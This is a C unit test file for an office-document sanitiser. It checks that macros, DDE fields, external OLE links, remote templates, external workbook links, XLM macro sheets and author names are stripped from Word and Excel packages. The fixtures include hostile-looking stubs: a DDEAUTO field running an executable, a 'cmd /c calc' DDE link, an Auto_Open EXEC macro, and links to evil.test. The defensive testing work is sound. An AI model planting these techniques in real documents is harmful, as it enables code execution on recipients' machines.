/* Cleaned office documents: what was active is gone, with everything that pointed to it, and the words are all there. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>

#include "scan/clean.h"
#include "scan/clean_zip.h"
#include "zip_make.h"

#define XML "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
#define TYPES(inner) XML "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>" \
	"<Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>" \
	"<Default Extension='xml' ContentType='application/xml'/>" inner "</Types>"
#define OVERRIDE(part, type) "<Override PartName='" part "' ContentType='" type "'/>"
#define RELS(inner) XML "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>" inner "</Relationships>"
#define OFF "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define REL(id, type, target) "<Relationship Id='" id "' Type='" type "' Target='" target "'/>"
#define REL_OUT(id, type, target) "<Relationship Id='" id "' Type='" type "' Target='" target "' TargetMode='External'/>"
#define W "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main' " \
	"xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships' xmlns:o='urn:schemas-microsoft-com:office:office' " \
	"xmlns:v='urn:schemas-microsoft-com:vml'"
#define DOCM "application/vnd.ms-word.document.macroEnabled.main+xml"
#define DOCX "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
#define ACTIVE (FACT_BIT(FACT_MACRO) | FACT_BIT(FACT_DDE) | FACT_BIT(FACT_EXTERNAL_OBJECT) | FACT_BIT(FACT_EXTERNAL_TEMPLATE) | \
		FACT_BIT(FACT_EMBEDDED_OBJECT) | FACT_BIT(FACT_ACTIVEX) | FACT_BIT(FACT_METADATA))

struct world {
	struct zip_make z;
	struct clean c;
	struct clean_zip made;
	struct buf text;
};

static int up(void **st)
{
	struct world *w = calloc(1, sizeof(*w));

	*st = w;
	if (w)
		zip_make_begin(&w->z);
	return w ? 0 : -1;
}

static int down(void **st)
{
	struct world *w = *st;

	zip_make_release(&w->z);
	clean_zip_close(&w->made);
	clean_release(&w->c);
	buf_release(&w->text);
	free(w);
	return 0;
}

static void add(struct world *w, const char *name, const char *text)
{
	zip_make_add(&w->z, str_of(name), str_of(text));
}

static int clean(struct world *w, uint64_t what)
{
	int err;

	w->c = (struct clean){ .in = zip_make_end(&w->z), .what = what };
	err = clean_make(&w->c);
	if (err == 0 && w->c.cleaned)
		assert_int_equal(clean_zip_open(buf_str(&w->c.out), &w->made), 0);
	return err;
}

static bool has(struct world *w, const char *part)
{
	return clean_zip_find(&w->made, str_of(part)) != NULL;
}

static bool says(struct world *w, const char *part, const char *word)
{
	const struct clean_zip_part *p = clean_zip_find(&w->made, str_of(part));

	assert_non_null(p);
	buf_release(&w->text);
	assert_int_equal(clean_zip_plain(&w->made, p, &w->text), 0);
	return str_find(buf_str(&w->text), str_of(word)) >= 0;
}

static void a_docm_becomes_a_docx_without_its_macros(void **st)
{
	struct world *w = *st;

	add(w, "_rels/.rels", RELS(REL("rId1", OFF "officeDocument", "word/document.xml")));
	add(w, "word/document.xml", "<w:document " W "><w:body><w:p><w:r><w:t>All the words</w:t></w:r></w:p></w:body></w:document>");
	add(w, "word/_rels/document.xml.rels", RELS(REL("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")
						    REL("rId2", OFF "styles", "styles.xml")));
	add(w, "word/vbaProject.bin", "VBA");
	add(w, "word/_rels/vbaProject.bin.rels", RELS(REL("rId1", "http://schemas.microsoft.com/office/2006/relationships/wordVbaData", "vbaData.xml")));
	add(w, "word/vbaData.xml", "<w/>");
	add(w, "word/styles.xml", "<w/>");
	add(w, "[Content_Types].xml", TYPES("<Default Extension='bin' ContentType='application/vnd.ms-office.vbaProject'/>"
					    OVERRIDE("/word/document.xml", DOCM) OVERRIDE("/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml")));
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == (FACT_BIT(FACT_MACRO) | FACT_BIT(FACT_MACRO_AUTO)));
	assert_string_equal(w->c.suffix, ".docx");
	assert_string_equal(w->c.type, "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
	assert_false(has(w, "word/vbaProject.bin"));
	assert_false(has(w, "word/_rels/vbaProject.bin.rels"));
	assert_false(has(w, "word/vbaData.xml"));
	assert_true(has(w, "word/styles.xml"));
	assert_true(says(w, "[Content_Types].xml", DOCX));
	assert_false(says(w, "[Content_Types].xml", "vba"));
	assert_false(says(w, "word/_rels/document.xml.rels", "vba"));
	assert_true(says(w, "word/_rels/document.xml.rels", "rId2"));
	assert_true(says(w, "word/document.xml", "All the words"));
	assert_memory_equal(w->made.v[0].name.p, "[Content_Types].xml", 19);
}

static void simple_docx(struct world *w, const char *rels, const char *body)
{
	char text[4096];

	snprintf(text, sizeof(text), "<w:document " W "><w:body>%s</w:body></w:document>", body);
	add(w, "[Content_Types].xml", TYPES(OVERRIDE("/word/document.xml", DOCX)));
	add(w, "_rels/.rels", RELS(REL("rId1", OFF "officeDocument", "word/document.xml")));
	add(w, "word/document.xml", text);
	add(w, "word/_rels/document.xml.rels", rels);
}

static void an_object_goes_and_what_it_looks_like_stays(void **st)
{
	struct world *w = *st;

	add(w, "word/embeddings/oleObject1.bin", "OLE");
	add(w, "word/media/image1.emf", "EMF");
	simple_docx(w, RELS(REL("rId4", OFF "oleObject", "embeddings/oleObject1.bin") REL("rId5", OFF "image", "media/image1.emf")
			    REL_OUT("rId6", OFF "hyperlink", "https://firm.example/") REL_OUT("rId7", OFF "oleObject", "http://evil.test/x.html!")),
		    "<w:object><v:shape id='a'><v:imagedata r:id='rId5'/></v:shape><o:OLEObject Type='Embed' ProgID='Package' r:id='rId4'/></w:object>"
		    "<w:object><o:OLEObject Type='Link' r:id='rId7'/></w:object><w:hyperlink r:id='rId6'><w:r><w:t>here</w:t></w:r></w:hyperlink>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == (FACT_BIT(FACT_EMBEDDED_OBJECT) | FACT_BIT(FACT_EXTERNAL_OBJECT)));
	assert_false(has(w, "word/embeddings/oleObject1.bin"));
	assert_true(has(w, "word/media/image1.emf"));
	assert_false(says(w, "word/document.xml", "OLEObject"));
	assert_true(says(w, "word/document.xml", "<v:imagedata r:id='rId5'/>"));
	assert_true(says(w, "word/document.xml", "rId6"));
	assert_true(says(w, "word/_rels/document.xml.rels", "firm.example"));
	assert_false(says(w, "word/_rels/document.xml.rels", "evil.test"));
	assert_null(w->c.suffix);
}

static void what_policy_allows_stays(void **st)
{
	struct world *w = *st;

	add(w, "word/embeddings/oleObject1.bin", "OLE");
	simple_docx(w, RELS(REL("rId4", OFF "oleObject", "embeddings/oleObject1.bin") REL_OUT("rId7", OFF "oleObject", "http://evil.test/x.html!")),
		    "<o:OLEObject r:id='rId4'/><o:OLEObject r:id='rId7'/>");
	assert_int_equal(clean(w, FACT_BIT(FACT_EXTERNAL_OBJECT)), 0);
	assert_true(w->c.removed == FACT_BIT(FACT_EXTERNAL_OBJECT));
	assert_true(has(w, "word/embeddings/oleObject1.bin"));
	assert_true(says(w, "word/document.xml", "rId4"));
	assert_false(says(w, "word/document.xml", "rId7"));
}

#define FIELD(a, b) "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>" a "</w:instrText></w:r><w:r><w:instrText>" b "</w:instrText></w:r>" \
	"<w:r><w:fldChar w:fldCharType='separate'/></w:r><w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"

static void a_field_that_starts_a_program_is_only_its_result(void **st)
{
	struct world *w = *st;

	simple_docx(w, RELS(""), FIELD(" DD", "EAUTO c:\\\\x.exe ") "<w:fldSimple w:instr=' dde x y'><w:r><w:t>simple</w:t></w:r></w:fldSimple>" FIELD(" PAGE ", "")
		    "<w:r><w:fldChar w:fldCharType='begin'/></w:r>" FIELD(" QUOTE 68 68 69 ", "") "<w:r><w:instrText> \"QUOTE\" </w:instrText></w:r>"
		    "<w:r><w:fldChar w:fldCharType='end'/></w:r>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == FACT_BIT(FACT_DDE));
	assert_false(says(w, "word/document.xml", "EAUTO"));
	assert_false(says(w, "word/document.xml", "fldSimple"));
	assert_false(says(w, "word/document.xml", "QUOTE"));
	assert_true(says(w, "word/document.xml", "<w:t>result</w:t>"));
	assert_true(says(w, "word/document.xml", "<w:t>simple</w:t>"));
	assert_true(says(w, "word/document.xml", "<w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> PAGE "));
}

static void a_word_that_a_field_within_completes_is_read_whole(void **st)
{
	struct world *w = *st;

	simple_docx(w, RELS(""), "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> DD</w:instrText></w:r>"
		    "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> REF x </w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>"
		    "<w:r><w:t>EAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:instrText> c:\\x.exe</w:instrText></w:r>"
		    "<w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:t>after</w:t></w:r>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == FACT_BIT(FACT_DDE));
	assert_false(says(w, "word/document.xml", "x.exe"));
	assert_false(says(w, "word/document.xml", "EAUTO"));
	assert_true(says(w, "word/document.xml", "after"));
}

static void a_template_from_elsewhere_is_not_loaded(void **st)
{
	struct world *w = *st;

	add(w, "word/settings.xml", "<w:settings " W "><w:attachedTemplate r:id='rId1'/><w:zoom w:percent='90'/></w:settings>");
	add(w, "word/_rels/settings.xml.rels", RELS(REL_OUT("rId1", OFF "attachedTemplate", "https://evil.test/t.dotm")));
	simple_docx(w, RELS(REL("rId1", OFF "settings", "settings.xml")), "");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == FACT_BIT(FACT_EXTERNAL_TEMPLATE));
	assert_false(says(w, "word/settings.xml", "attachedTemplate"));
	assert_true(says(w, "word/settings.xml", "zoom"));
}

static void the_names_of_people_go(void **st)
{
	struct world *w = *st;

	zip_make_begin(&w->z);
	add(w, "[Content_Types].xml", TYPES(""));
	add(w, "_rels/.rels", RELS(REL("rId1", OFF "officeDocument", "word/document.xml")
				   REL("rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml")));
	add(w, "word/document.xml", "<w:document " W "/>");
	add(w, "docProps/core.xml", "<c:coreProperties xmlns:c='urn:c' xmlns:dc='urn:d'><dc:title>Plan</dc:title><dc:creator>Jane Roe</dc:creator></c:coreProperties>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == FACT_BIT(FACT_METADATA));
	assert_true(says(w, "docProps/core.xml", "<dc:title>Plan</dc:title>"));
	assert_false(says(w, "docProps/core.xml", "Jane"));
}

#define S "xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'"
#define XLSX "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"

static void formulas_that_lead_to_other_workbooks_become_values(void **st)
{
	struct world *w = *st;

	add(w, "[Content_Types].xml", TYPES(OVERRIDE("/xl/workbook.xml", XLSX) OVERRIDE("/xl/calcChain.xml", "x/y")));
	add(w, "_rels/.rels", RELS(REL("rId1", OFF "officeDocument", "/xl/workbook.xml")));
	add(w, "xl/workbook.xml", "<workbook " S "><sheets><sheet r:id='rId1'/></sheets><externalReferences><externalReference r:id='rId2'/></externalReferences>"
	    "<definedNames><definedName name='a'>[1]x!A1</definedName><definedName name='b'>Sheet1!A1</definedName></definedNames></workbook>");
	add(w, "xl/_rels/workbook.xml.rels", RELS(REL("rId1", OFF "worksheet", "worksheets/sheet1.xml") REL("rId2", OFF "externalLink", "externalLinks/externalLink1.xml")
						  REL("rId3", OFF "calcChain", "calcChain.xml")));
	add(w, "xl/calcChain.xml", "<calcChain " S "/>");
	add(w, "xl/externalLinks/externalLink1.xml", "<externalLink " S "><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>");
	add(w, "xl/worksheets/sheet1.xml", "<worksheet " S "><c><f>[1]!'!A0'</f><v>7</v></c><c><f t='shared' si='0'>[1]S!A1+1</f><v>8</v></c>"
	    "<c><f t='shared' si='0'/><v>9</v></c><c><f t='shared' si='1'/><v>10</v></c><c><f>A1+T[col]</f><v>11</v></c></worksheet>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed == (FACT_BIT(FACT_DDE) | FACT_BIT(FACT_EXTERNAL_OBJECT)));
	assert_true(says(w, "xl/worksheets/sheet1.xml", "<c><v>7</v></c><c><v>8</v></c><c><v>9</v></c><c><f t='shared' si='1'/><v>10</v></c><c><f>A1+T[col]</f>"));
	assert_true(says(w, "xl/workbook.xml", "</sheets><definedNames><definedName name='b'>"));
	assert_false(has(w, "xl/externalLinks/externalLink1.xml"));
	assert_false(has(w, "xl/calcChain.xml"));
	assert_false(says(w, "[Content_Types].xml", "calcChain"));
}

static void a_macro_sheet_becomes_an_empty_one(void **st)
{
	struct world *w = *st;

	add(w, "[Content_Types].xml", TYPES(OVERRIDE("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
					    OVERRIDE("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml")));
	add(w, "_rels/.rels", RELS(REL("rId1", OFF "officeDocument", "xl/workbook.xml")));
	add(w, "xl/workbook.xml", "<workbook " S "><sheets><sheet name='Macro1' r:id='rId1'/></sheets><definedNames>"
	    "<definedName name='_xlnm.Auto_Open' hidden='1'>Macro1!$A$1</definedName></definedNames></workbook>");
	add(w, "xl/_rels/workbook.xml.rels", RELS(REL("rId1", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml")));
	add(w, "xl/macrosheets/sheet1.xml", "<xm:macrosheet xmlns:xm='x'><c><f>EXEC(\"calc\")</f></c></xm:macrosheet>");
	assert_int_equal(clean(w, ACTIVE), 0);
	assert_true(w->c.removed & FACT_BIT(FACT_MACRO));
	assert_false(has(w, "xl/macrosheets/sheet1.xml"));
	assert_false(says(w, "[Content_Types].xml", "macrosheet"));
	assert_true(says(w, "[Content_Types].xml", "PartName='/xl/worksheets/emptied4.xml'"));
	assert_true(says(w, "xl/worksheets/emptied4.xml", "<sheetData/>"));
	assert_true(says(w, "xl/_rels/workbook.xml.rels", "Target='/xl/worksheets/emptied4.xml'"));
	assert_true(says(w, "xl/_rels/workbook.xml.rels", "2006/relationships/worksheet'"));
	assert_false(says(w, "xl/workbook.xml", "Auto_Open"));
}

static void a_package_with_two_truths_is_not_cleaned(void **st)
{
	struct world *w = *st;
	struct str in;

	simple_docx(w, RELS(""), "");
	add(w, "WORD/document.xml", "<other/>");
	assert_int_equal(clean(w, ACTIVE), ERR_UNSUPPORTED);	/* the same name twice: no office document */
	clean_release(&w->c);
	zip_make_release(&w->z);
	zip_make_begin(&w->z);
	simple_docx(w, RELS(REL_OUT("rId7", OFF "oleObject", "http://evil.test/")), "<!DOCTYPE x>");
	assert_int_equal(clean(w, ACTIVE), ERR_BAD_FORMAT);
	in = w->c.in;
	for (size_t n = 0; n < in.n; n++) {			/* cut short anywhere */
		clean_release(&w->c);
		w->c = (struct clean){ .in = str_make(in.p, n), .what = ACTIVE };
		assert_true(clean_make(&w->c) < 0);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(a_docm_becomes_a_docx_without_its_macros, up, down),
		cmocka_unit_test_setup_teardown(an_object_goes_and_what_it_looks_like_stays, up, down),
		cmocka_unit_test_setup_teardown(what_policy_allows_stays, up, down),
		cmocka_unit_test_setup_teardown(a_field_that_starts_a_program_is_only_its_result, up, down),
		cmocka_unit_test_setup_teardown(a_word_that_a_field_within_completes_is_read_whole, up, down),
		cmocka_unit_test_setup_teardown(a_template_from_elsewhere_is_not_loaded, up, down),
		cmocka_unit_test_setup_teardown(the_names_of_people_go, up, down),
		cmocka_unit_test_setup_teardown(formulas_that_lead_to_other_workbooks_become_values, up, down),
		cmocka_unit_test_setup_teardown(a_macro_sheet_becomes_an_empty_one, up, down),
		cmocka_unit_test_setup_teardown(a_package_with_two_truths_is_not_cleaned, up, down),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
